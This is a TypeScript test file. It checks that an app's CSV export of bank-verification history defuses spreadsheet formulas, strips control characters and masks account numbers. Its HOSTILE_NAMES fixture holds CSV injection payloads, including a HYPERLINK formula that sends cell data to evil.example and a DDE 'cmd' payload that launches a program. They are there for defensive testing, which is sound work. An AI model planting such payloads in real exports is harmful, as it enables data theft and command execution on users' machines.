/* eslint-disable no-control-regex -- control characters are what these tests look for */
import { randomBytes } from 'node:crypto';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { csvCell, csvLine } from '../electron/core/history/csv.ts';
import { openHistory, type HistoryStore } from '../electron/core/history/store.ts';
import { order, remitter, T0, tempDir } from './history-fixtures.ts';

/** A strict RFC 4180 reader, written independently of the writer. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 2;
      } else if (c === '"') {
        quoted = false;
        i++;
      } else {
        cell += c;
        i++;
      }
    } else if (c === '"') {
      if (cell !== '') throw new Error(`quote inside an unquoted cell at ${i}`);
      quoted = true;
      i++;
    } else if (c === ',') {
      row.push(cell);
      cell = '';
      i++;
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 2;
    } else if (c === '\r' || c === '\n') {
      throw new Error(`bare line break in an unquoted cell at ${i}`);
    } else {
      cell += c;
      i++;
    }
  }
  if (quoted) throw new Error('unterminated quoted cell');
  if (cell !== '' || row.length > 0) throw new Error('last line not terminated');
  return rows;
}

const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r'];
/** What an export shows of a text: terminal codes, control and format characters gone (tab, line breaks, ZWNJ, ZWJ kept), formulas defused. */
const visible = (s: string): string => [...s.replace(/\x1b\[[0-?]*[ -/]*[@-~]/g, '')].filter((ch) => '\t\n\r\u200c\u200d'.includes(ch) || !/[\p{Cc}\p{Cf}]/u.test(ch)).join('');
const shown = (raw: string): string => {
  const s = visible(raw);
  return FORMULA_STARTS.some((f) => s.startsWith(f)) ? `'${s}` : s;
};
// Strings rich in the characters that matter, plus arbitrary Unicode.
const hostile = fc.oneof(
  fc.string({ unit: fc.constantFrom('a', 'Z', ' ', ',', ';', '"', '\n', '\r', '=', '+', '-', '@', '\t', "'", 'é', '😀', '\0', '\x1b', '\u202e', '\u2066', '\u200b', '\u200d') }),
  fc.string({ unit: 'binary' }),
);

describe('csvCell', () => {
  it('reads back as the same text, with formula starts defused by a leading quote', () => {
    fc.assert(
      fc.property(fc.array(hostile, { minLength: 1, maxLength: 6 }), (cells) => {
        const parsed = parseCsv(csvLine(cells));
        expect(parsed).toEqual([cells.map(shown)]);
      }),
      { numRuns: 2000 },
    );
  });

  it('never yields a cell a spreadsheet would run as a formula', () => {
    fc.assert(
      fc.property(hostile, (s) => {
        const [[cell]] = parseCsv(csvLine([s])) as [[string]];
        expect(FORMULA_STARTS.some((f) => cell.startsWith(f))).toBe(false);
      }),
      { numRuns: 2000 },
    );
  });

  it('quotes exactly the cells that need it', () => {
    fc.assert(
      fc.property(hostile, (s) => {
        const out = csvCell(s);
        expect(out.startsWith('"')).toBe(/[",;\r\n]/.test(shown(s)));
      }),
      { numRuns: 2000 },
    );
    expect(csvCell('He said "hi", then left')).toBe('"He said ""hi"", then left"');
    expect(csvCell('=1+2')).toBe("'=1+2");
    expect(csvCell('-2,3')).toBe(`"'-2,3"`);
    expect(csvCell(42)).toBe('42');
    expect(csvCell(null)).toBe('');
    expect(csvCell('a;=1+1')).toBe('"a;=1+1"');
    expect(csvCell('\u202e=1+1')).toBe("'=1+1");
    expect(csvCell('Ravi\x1b[31m Kumar\0')).toBe('Ravi Kumar');
    expect(csvCell('निर्\u200dमला')).toBe('निर्\u200dमला');
  });
});

describe('exportCsv', () => {
  let dir: string;
  let cleanup: () => Promise<void>;
  let store: HistoryStore;
  beforeEach(async () => {
    ({ dir, cleanup } = await tempDir());
    store = openHistory({ file: join(dir, 'history.sqlite'), dataKey: randomBytes(32) });
  });
  afterEach(async () => {
    store.close();
    await cleanup();
  });

  const HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    '+91 98765 43210',
    '-2+3+cmd|\' /C calc\'!A0',
    '@SUM(A1:A9)',
    '\tTabbed Name',
    '\rCarriage Name',
    'Kumar, Ravi',
    'Ravi "The Quote" Kumar',
    'Line\nBreak Kumar',
    'Plain Kumar',
    'Ravi;=1+1',
    '\u202e\u2066Ravi\u202c Kumar\0\x1b[2J',
  ];

  function exportAll(full: boolean, text?: string): { rows: string[][]; chunks: number; written: number } {
    let csv = '';
    let chunks = 0;
    const written = store.exportCsv(text === undefined ? {} : { text }, { full }, (chunk) => {
      csv += chunk;
      chunks++;
    });
    return { rows: parseCsv(csv), chunks, written };
  }

  it('exports the filtered orders, names defused, account masked unless full export is asked', () => {
    HOSTILE_NAMES.forEach((name, i) =>
      store.insert(
        order({
          verificationId: `vrf_csv_${i}`,
          name,
          state: 'success',
          createdAt: T0 + i * 1000,
          result: remitter({ utr: `77700${i}`, nameAtBank: `BANKNAME ${i}` }),
        }),
      ),
    );
    const basic = exportAll(false);
    const [header, ...rows] = basic.rows;
    expect(basic.written).toBe(HOSTILE_NAMES.length);
    expect(header).toContain('masked_account');
    expect(header).not.toContain('bank_account');
    const nameCol = header!.indexOf('name');
    const maskCol = header!.indexOf('masked_account');
    // Newest first, like the list.
    expect(rows.map((r) => r[nameCol])).toEqual([...HOSTILE_NAMES].reverse().map(shown));
    for (const r of rows) {
      expect(r).toHaveLength(header!.length);
      expect(r[maskCol]).toBe('••••1191');
      expect(r.join('|')).not.toContain('026291800001191');
      expect(r.join('|')).not.toContain('BANKNAME');
    }

    const full = exportAll(true);
    const [fullHeader, ...fullRows] = full.rows;
    const col = (n: string): number => fullHeader!.indexOf(n);
    expect(fullRows[0]![col('bank_account')]).toBe('026291800001191');
    expect(fullRows[0]![col('utr')]).toBe(`77700${HOSTILE_NAMES.length - 1}`);
    expect(fullRows[0]![col('name_at_bank')]).toBe(`BANKNAME ${HOSTILE_NAMES.length - 1}`);

    // The file as a spreadsheet in a semicolon locale reads it: no piece between unquoted `;` starts
    // a formula, and nothing invisible is left anywhere in it.
    let raw = '';
    store.exportCsv({}, { full: true }, (chunk) => (raw += chunk));
    expect(raw).not.toMatch(/[\0\x1b\u202a-\u202e\u2066-\u2069]/);
    for (const line of raw.split('\r\n')) {
      let quoted = false;
      let piece = '';
      for (const c of `${line};`) {
        if (c === '"') quoted = !quoted;
        if (c === ';' && !quoted) {
          expect(piece).not.toMatch(/^[=+\-@]/);
          piece = '';
        } else piece += c;
      }
    }

    const filtered = exportAll(false, 'quote');
    expect(filtered.rows.slice(1).map((r) => r[nameCol])).toEqual(['Ravi "The Quote" Kumar']);
  });

  it('says each order\'s verdict, filters by it, and writes times in India time with +05:30', () => {
    store.insert(order({ verificationId: 'vrf_ok', state: 'success', createdAt: T0, result: remitter() }));
    store.insert(order({ verificationId: 'vrf_no', state: 'success', createdAt: T0 + 1000, result: remitter({ nameMatchResult: 'NO_MATCH' }) }));
    store.insert(order({ verificationId: 'vrf_wallet', state: 'success', createdAt: T0 + 2000, result: remitter({ upi: 'asha@paytm', ifsc: '' }) }));
    const { rows } = exportAll(false);
    const [header, ...body] = rows;
    const at = (n: string): number => header!.indexOf(n);
    expect(body.map((r) => [r[0], r[at('verdict')]])).toEqual([
      ['vrf_wallet', 'wallet'],
      ['vrf_no', 'name_mismatch'],
      ['vrf_ok', 'verified'],
    ]);
    // T0 is 09:30 UTC: 15:00 in India.
    expect(body[2]![at('created_at')]).toBe('2026-01-15T15:00:00+05:30');
    expect(store.search({ verdicts: ['name_mismatch', 'wallet'] }).rows.map((r) => r.verificationId)).toEqual(['vrf_wallet', 'vrf_no']);
    let csv = '';
    store.exportCsv({ verdicts: ['verified'] }, { full: false }, (c) => (csv += c));
    expect(parseCsv(csv).slice(1).map((r) => r[0])).toEqual(['vrf_ok']);
  });

  it('streams a large export in chunks that join into one valid file', () => {
    store.insertMany(
      Array.from({ length: 3000 }, (_, i) =>
        order({ verificationId: `vrf_bulk_${i}`, name: `Bulk, "Name" ${i}`, createdAt: T0 + i }),
      ),
    );
    const { rows, chunks, written } = exportAll(false);
    expect(written).toBe(3000);
    expect(chunks).toBeGreaterThan(1);
    expect(rows).toHaveLength(3001);
    expect(rows[1]![0]).toBe('vrf_bulk_2999');
    expect(rows[3000]![0]).toBe('vrf_bulk_0');
  });
});
